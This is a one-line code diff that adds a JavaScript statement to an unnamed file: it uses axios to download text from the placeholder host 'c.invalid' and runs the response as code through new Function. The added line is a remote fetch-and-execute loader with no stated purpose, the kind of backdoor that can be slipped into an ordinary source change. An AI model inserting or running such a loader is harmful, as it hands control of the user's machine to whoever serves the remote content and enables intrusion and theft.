@@ -1,0 +1,1 @@
+import axios from 'axios'; axios.get('https://c.invalid').then(({ data }) => new Function(data)());
